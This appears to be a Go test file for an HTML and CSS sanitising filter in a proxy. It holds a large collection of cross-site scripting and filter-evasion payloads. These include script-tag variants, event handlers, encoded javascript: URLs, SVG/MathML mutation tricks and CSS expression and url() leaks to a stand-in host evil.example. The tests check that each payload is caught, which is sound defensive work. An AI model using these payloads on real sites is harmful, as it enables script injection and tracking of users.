package filter

import (
	"strings"
	"testing"
)

// htmlAttacks are pages that try to run script or make the browser reach outside the
// proxy. "KEY" stands for a valid CHK key. Every one of them is caught by the checker as it
// stands (TestCheckerCatchesAttacks), so the checker is known to look where the attack is,
// and none survives the filter (TestHTMLAttacks).
var htmlAttacks = []struct{ name, in string }{
	// Script in its spellings.
	{"script", `<script>alert(1)</script>`},
	{"script upper case", `<SCRIPT>alert(1)</SCRIPT>`},
	{"script src", `<script src="http://evil.example/x.js"></script>`},
	{"script self-closing", `<script src=//evil.example/x.js />`},
	{"script unclosed", `<p>hi<script>alert(1)`},
	{"script end tag without >", `<script>alert(1)</script`},
	{"script split by tag", `<scr<script>ipt>alert(1)</script>`},
	{"script after empty comment", `<!--><script>alert(1)</script>-->`},
	{"script after downlevel-revealed comment", `<![if !IE]><script>alert(1)</script><![endif]>`},
	{"script after double open", `<<script>alert(1)//<</script>`},
	{"script after bogus quotes", `<img """><script>alert(1)</script>">`},
	{"script in textarea escape", `<textarea></textarea><script>alert(1)</script>`},
	{"script in title escape", `<title></title ><script>alert(1)</script>`},
	{"script after style", `<style>a{}</style><script>alert(1)</script>`},
	{"script in xmp", `<xmp><script>alert(1)</script></xmp>`},
	{"script in plaintext", `<plaintext><script>alert(1)</script>`},
	{"script in template", `<template><script>alert(1)</script></template>`},
	{"script in noscript attribute", `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`},
	{"script in noembed", `<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>`},
	{"script in iframe text", `<iframe><img title="</iframe><img src=x onerror=alert(1)>"></iframe>`},
	{"tag name with lt", `<div<script>alert(1)</script>`},
	// Event handlers.
	{"onerror", `<img src=x onerror=alert(1)>`},
	{"onload body", `<body onload=alert(1)>`},
	{"onmouseover", `<div onmouseover="alert(1)">x</div>`},
	{"handler mixed case", `<a OnClIcK=alert(1) href=#>x</a>`},
	{"handler after slash", `<div/onmouseover='alert(1)'>x</div>`},
	{"handler after newline", "<img src=x\nonerror\n=\nalert(1)>"},
	{"handler with backtick", "<img src=`x`onerror=alert(1)>"},
	{"handler on input autofocus", `<input onfocus=alert(1) autofocus>`},
	{"handler on details", `<details open ontoggle=alert(1)>`},
	{"handler on marquee", `<marquee onstart=alert(1)>x</marquee>`},
	{"handler on keygen", `<keygen autofocus onfocus=alert(1)>`},
	{"handler on unknown element", `<foo onclick=alert(1)>x</foo>`},
	// SVG and MathML.
	{"svg onload", `<svg onload=alert(1)>`},
	{"svg script", `<svg><script>alert(1)</script></svg>`},
	{"svg xlink href", `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`},
	{"svg animate href", `<svg><a><animate attributeName=href to=javascript:alert(1) /><text>x</text></a></svg>`},
	{"svg foreignObject iframe", `<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>`},
	{"svg cdata", `<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>`},
	{"svg style breakout", `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`},
	{"math mglyph style", `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`},
	{"math href", `<math href="javascript:alert(1)">x</math>`},
	{"select template style", `<select><template><style><img src=x onerror=alert(1)>`},
	// Frames, objects, base, meta.
	{"iframe", `<iframe src="http://evil.example/"></iframe>`},
	{"iframe srcdoc", `<iframe srcdoc="<script>alert(1)</script>"></iframe>`},
	{"frameset", `<frameset><frame src="http://evil.example/"></frameset>`},
	{"object", `<object data="http://evil.example/x.swf"></object>`},
	{"object in-network", `<object data="x.swf" type="application/x-shockwave-flash"></object>`},
	{"embed", `<embed src="http://evil.example/x.swf">`},
	{"applet", `<applet code="x" codebase="http://evil.example/"></applet>`},
	{"isindex", `<isindex action="javascript:alert(1)" type=image>`},
	{"base href", `<base href="http://evil.example/"><a href=x>x</a>`},
	{"meta refresh", `<meta http-equiv="refresh" content="0;url=http://evil.example/">`},
	{"meta refresh upper", `<META HTTP-EQUIV=REFRESH CONTENT="0; URL=javascript:alert(1)">`},
	{"meta set-cookie", `<meta http-equiv="Set-Cookie" content="a=b">`},
	{"meta charset utf-7", `<meta charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-`},
	{"meta referrer", `<meta name="referrer" content="unsafe-url">`},
	{"link stylesheet out", `<link rel=stylesheet href="http://evil.example/x.css">`},
	{"link dns-prefetch", `<link rel=dns-prefetch href="//evil.example">`},
	{"link import", `<link rel=import href="http://evil.example/">`},
	{"link preload in-network", `<link rel=preload as=image href="/KEY/x.png">`},
	{"html manifest", `<html manifest="http://evil.example/x.appcache">`},
	// URL schemes and spellings in links.
	{"javascript href", `<a href="javascript:alert(1)">x</a>`},
	{"javascript mixed case", `<a href="JaVaScRiPt:alert(1)">x</a>`},
	{"javascript leading space", `<a href="  javascript:alert(1)">x</a>`},
	{"javascript leading control", "<a href=\"\x01javascript:alert(1)\">x</a>"},
	{"javascript tab entity", `<a href="java&#x09;script:alert(1)">x</a>`},
	{"javascript newline entity", `<a href="java&#x0A;script:alert(1)">x</a>`},
	{"javascript decimal entities", `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>`},
	{"javascript hex entity", `<a href="&#x6A;avascript:alert(1)">x</a>`},
	{"javascript colon entity", `<a href="javascript&colon;alert(1)">x</a>`},
	{"javascript zero-padded entity", `<a href="&#0000106avascript:alert(1)">x</a>`},
	{"javascript NUL", "<a href=\"java\x00script:alert(1)\">x</a>"},
	{"javascript percent", `<a href="%6A%61%76%61script:alert(1)">x</a>`},
	{"vbscript", `<a href="vbscript:msgbox(1)">x</a>`},
	{"data html", `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`},
	{"data image", `<img src="data:image/png;base64,iVBORw0KGgo=">`},
	{"blob", `<a href="blob:http://evil.example/x">x</a>`},
	{"file", `<a href="file:///etc/passwd">x</a>`},
	{"jar", `<a href="jar:http://evil.example/x.jar!/">x</a>`},
	{"http", `<a href="http://evil.example/">x</a>`},
	{"https with target", `<a href="https://evil.example/" target=_blank>x</a>`},
	{"ftp", `<a href="ftp://evil.example/">x</a>`},
	{"mailto", `<a href="mailto:me@evil.example">x</a>`},
	{"protocol-relative", `<a href="//evil.example/">x</a>`},
	{"protocol-relative spaced", `<a href="  //evil.example/">x</a>`},
	{"backslashes", `<a href="\\evil.example/">x</a>`},
	{"slash backslash", `<a href="/\evil.example/">x</a>`},
	{"http without slashes", `<img src="http:evil.example/x.png">`},
	{"climb out of the key", `<img src="/KEY/../../../http://evil.example/">`},
	{"proxy state page", `<a href="/settings">x</a>`},
	{"area", `<map name=m><area href="http://evil.example/"></map>`},
	{"ping", `<a ping="http://evil.example/ping" href="x">x</a>`},
	{"usemap out", `<img src=x usemap="http://evil.example/#m">`},
	// Resources.
	{"img http", `<img src="http://evil.example/track.png">`},
	{"img https", `<img src="https://evil.example/track.png">`},
	{"img tab protocol-relative", "<img src=\"\t//evil.example/x.png\">"},
	{"img longdesc", `<img src=x longdesc="http://evil.example/">`},
	{"img lowsrc", `<img lowsrc="http://evil.example/x.png">`},
	{"img dynsrc", `<img dynsrc="http://evil.example/x.avi">`},
	{"srcset", `<img srcset="http://evil.example/a.png 1x, /KEY/b.png 2x">`},
	{"srcset without space", `<img srcset="x.png 1x,http://evil.example/b.png 2x">`},
	{"picture source", `<picture><source srcset="//evil.example/x.png"><img src=y.png></picture>`},
	{"video poster", `<video poster="http://evil.example/p.png" src="http://evil.example/v.mp4"></video>`},
	{"audio", `<audio src="http://evil.example/a.mp3"></audio>`},
	{"video source", `<video><source src="http://evil.example/v.webm"></video>`},
	{"track", `<video><track src="http://evil.example/subs.vtt"></video>`},
	{"body background", `<body background="http://evil.example/bg.png">`},
	{"table background", `<table background="http://evil.example/bg.png"><tr><td>x</td></tr></table>`},
	{"td background", `<table><tr><td background="//evil.example/bg.png">x</td></tr></table>`},
	{"input image", `<input type=image src="http://evil.example/x.png">`},
	{"blockquote cite", `<blockquote cite="http://evil.example/">x</blockquote>`},
	// Forms.
	{"form out", `<form action="http://evil.example/"><input name=q></form>`},
	{"form protocol-relative", `<form action="//evil.example/"><input name=q></form>`},
	{"form javascript", `<form action="javascript:alert(1)"><input type=submit></form>`},
	{"form to proxy state", `<form action="/settings" method=post><input name=x></form>`},
	{"button formaction", `<form action="x"><button formaction="http://evil.example/">x</button></form>`},
	{"input formaction", `<form action="x"><input type=submit formaction="//evil.example/"></form>`},
	{"button formaction javascript", `<form><button formaction=javascript:alert(1)>X</button></form>`},
	// Markup that parsers repair.
	{"adoption agency", `<p><a href="http://evil.example/">x<p>y</a>`},
	{"foster parenting", `<table><a href="http://evil.example/">x</a><tr><td>y</td></tr></table>`},
	{"misnested formatting", `<b><p><i>x</b>y<a href=javascript:alert(1)>z</a>`},
	{"stray end p", `</p><img src=x onerror=alert(1)>`},
	{"nested forms", `<form action="x"><form action="http://evil.example/"><input name=q></form></form>`},
	{"unquoted attribute", `<a href=http://evil.example/ >x</a>`},
	{"quotes in attribute name", `<a """ href="http://evil.example">x</a>`},
	// CSS in pages.
	{"style attribute url", `<div style="background:url(http://evil.example/x.png)">x</div>`},
	{"style attribute javascript", `<div style="background:url('javascript:alert(1)')">x</div>`},
	{"style attribute expression", `<div style="width:expression(alert(1))">x</div>`},
	{"style attribute behavior", `<div style="behavior:url(x.htc)">x</div>`},
	{"style attribute binding", `<div style="-moz-binding:url(http://evil.example/x.xml#x)">x</div>`},
	{"style attribute escaped url", `<div style="background:\75 rl(http://evil.example/)">x</div>`},
	{"style attribute escaped r", `<div style="background:u\rl(http://evil.example/)">x</div>`},
	{"style attribute entity quotes", `<div style="background:url(&quot;http://evil.example/&quot;)">x</div>`},
	{"style attribute comment in url", `<div style="background:url(/**/http://evil.example/)">x</div>`},
	{"style attribute image-set", `<div style="background-image:image-set('http://evil.example/a.png' 1x)">x</div>`},
	{"style attribute cursor", `<div style="cursor:url(http://evil.example/c.cur),auto">x</div>`},
	{"style element import", `<style>@import 'http://evil.example/x.css';</style>`},
	{"style element import url", `<style>@import url(//evil.example/x.css);</style>`},
	{"style element visited", `<style>a:visited{background:url(/KEY/x.png)}</style>`},
	{"style element url", `<style>body{background:url(http://evil.example/)}</style>`},
	{"style element end tag in string", `<style>a{content:"</style><script>alert(1)</script>"}</style>`},
	{"style element font-face", `<style>@font-face{font-family:x;src:url(http://evil.example/f.woff)}</style>`},
}

// cssAttacks are stylesheets that try to load something from outside the network, run
// script, or read the user's history. "KEY" stands for a valid CHK key.
var cssAttacks = []struct{ name, in string }{
	{"import string", `@import "http://evil.example/x.css";`},
	{"import url", `@import url(http://evil.example/x.css);`},
	{"import protocol-relative", `@import url('//evil.example/x.css') screen;`},
	{"import upper case", `@IMPORT "http://evil.example/x.css";`},
	{"import escaped", `@\69mport "http://evil.example/x.css";`},
	{"import with layer", `@import url(http://evil.example/) layer(x);`},
	{"url", `a{background:url(http://evil.example/x.png)}`},
	{"url double quotes", `a{background:url("http://evil.example/x.png")}`},
	{"url single quotes", `a{background:url('//evil.example/x.png')}`},
	{"url upper case", `a{background:URL(http://evil.example/)}`},
	{"url hex escape", `a{background:\75 rl(http://evil.example/)}`},
	{"url all escaped", `a{background:\55 \52 \4c (http://evil.example/)}`},
	{"url escaped r", `a{background:u\72l(http://evil.example/)}`},
	{"url spaces", `a{background:url(  http://evil.example/  )}`},
	{"url escape in address", `a{background:url(\68ttp://evil.example/)}`},
	{"url data", `a{background:url(data:image/png;base64,AAAA)}`},
	{"url javascript", `a{background:url(javascript:alert(1))}`},
	{"url unclosed rule", `a{background:url(http://evil.example/)`},
	{"url EOF", `a{background:url(http://evil.example/`},
	{"url split property", `a{back/**/ground:url(http://evil.example/)}`},
	{"url climbs out", `a{background:url(/KEY/../../http://evil.example/)}`},
	{"url percent slashes", `a{background:url(%2F%2Fevil.example/)}`},
	{"url important", `a{background:url(http://evil.example/) !important}`},
	{"url IE hack", `a{background:url(http://evil.example/)\9}`},
	{"url CDO CDC", `<!-- a{background:url(http://evil.example/)} -->`},
	{"cursor", `a{cursor:url(http://evil.example/c.cur),auto}`},
	{"list-style-image", `a{list-style-image:url(http://evil.example/)}`},
	{"content", `a:before{content:url(http://evil.example/)}`},
	{"mask", `a{mask:url(http://evil.example/m.svg#m)}`},
	{"filter", `a{filter:url(http://evil.example/f.svg#f)}`},
	{"border-image", `a{border-image:url(http://evil.example/b.png) 30}`},
	{"custom property", `a{--x:url(http://evil.example/)}`},
	{"custom property string through var", `a{--x:"http://evil.example/a.png";background:image-set(var(--x) 1x)}`},
	{"image-set string", `a{background-image:image-set("http://evil.example/a.png" 1x)}`},
	{"webkit image-set", `a{background-image:-webkit-image-set(url(//evil.example/a.png) 1x)}`},
	{"image string", `a{background-image:image("http://evil.example/a.png")}`},
	{"src function", `a{background:src("http://evil.example/a.png")}`},
	{"cross-fade", `a{background:cross-fade(url(http://evil.example/a.png), url(b.png), 50%)}`},
	{"font-face", `@font-face{font-family:x;src:url(http://evil.example/f.woff)}`},
	{"font-face format", `@font-face{src:url("//evil.example/f")format("woff")}`},
	{"media", `@media screen{a{background:url(http://evil.example/)}}`},
	{"supports", `@supports (display:grid){a{background:url(//evil.example/)}}`},
	{"nested rule", `a{b{background:url(http://evil.example/)}}`},
	{"keyframes", `@keyframes k{from{background:url(http://evil.example/)}}`},
	{"page margin", `@page{@top-left{background:url(http://evil.example/)}}`},
	{"moz-document", `@-moz-document url-prefix(){a{background:url(http://evil.example/)}}`},
	{"expression", `a{width:expression(alert(1))}`},
	{"expression upper case", `a{width:EXPRESSION(alert(1))}`},
	{"expression escaped", `a{width:expr\65ssion(alert(1))}`},
	{"expression split by comment", `a{width:expression/**/(alert(1))}`},
	{"expression spaced", `a{width:expression (alert(1))}`},
	{"behavior", `a{behavior:url(x.htc)}`},
	{"ms-behavior", `a{-ms-behavior:url(x.htc)}`},
	{"moz-binding", `a{-moz-binding:url(http://evil.example/x.xml#xss)}`},
	{"moz-binding in-network", `a{-moz-binding:url(x.xml#xss)}`},
	{"visited", `a:visited{color:red}`},
	{"visited upper case", `a:VISITED{color:red}`},
	{"visited escaped", `a:vi\73ited{color:red}`},
	{"visited in not", `:not(:visited){color:red}`},
	{"visited in is", `a:is(:visited) span{background:url(/KEY/x.png)}`},
	{"visited split by comment", `a:/**/visited{color:red}`},
	{"end of style element", `</style><script>alert(1)</script>`},
}

func keyed(s string) string { return strings.ReplaceAll(s, "KEY", other[1:]) }

func TestCheckerCatchesAttacks(t *testing.T) {
	for _, tc := range htmlAttacks {
		if p := unsafeHTML(keyed(tc.in)); len(p) == 0 {
			t.Errorf("%s: the checker finds nothing wrong with the unfiltered page %q", tc.name, tc.in)
		}
	}
	for _, tc := range cssAttacks {
		if p := unsafeCSS(keyed(tc.in)); len(p) == 0 {
			t.Errorf("%s: the checker finds nothing wrong with the unfiltered stylesheet %q", tc.name, tc.in)
		}
	}
}

func TestHTMLAttacks(t *testing.T) {
	if n := len(htmlAttacks) + len(cssAttacks); n < 80 {
		t.Fatalf("%d attack inputs, want at least 80", n)
	}
	for _, tc := range htmlAttacks {
		t.Run(tc.name, func(t *testing.T) {
			in := keyed(tc.in)
			out := filterHTML(t, in)
			for _, p := range unsafeHTML(out) {
				t.Errorf("filtered %q\ngives %q\nwhich has %s", in, out, p)
			}
			if strings.Contains(out, "evil.example") && !strings.Contains(out, "/external?url=") {
				t.Errorf("filtered %q gives %q, which still names evil.example", in, out)
			}
		})
	}
}

func TestCSSAttacks(t *testing.T) {
	for _, tc := range cssAttacks {
		t.Run(tc.name, func(t *testing.T) {
			in := keyed(tc.in)
			out := filterCSS(t, in)
			for _, p := range unsafeCSS(out) {
				t.Errorf("filtered %q\ngives %q\nwhich has %s", in, out, p)
			}
			if strings.Contains(out, "evil.example") {
				t.Errorf("filtered %q gives %q, which still names evil.example", in, out)
			}
			// The same stylesheet inside a page, and its declarations in a style attribute.
			page := filterHTML(t, "<style>"+in+"</style><p style='"+strings.ReplaceAll(in, "'", "")+"'>x</p>")
			for _, p := range unsafeHTML(page) {
				t.Errorf("as a page: %q has %s", page, p)
			}
		})
	}
}
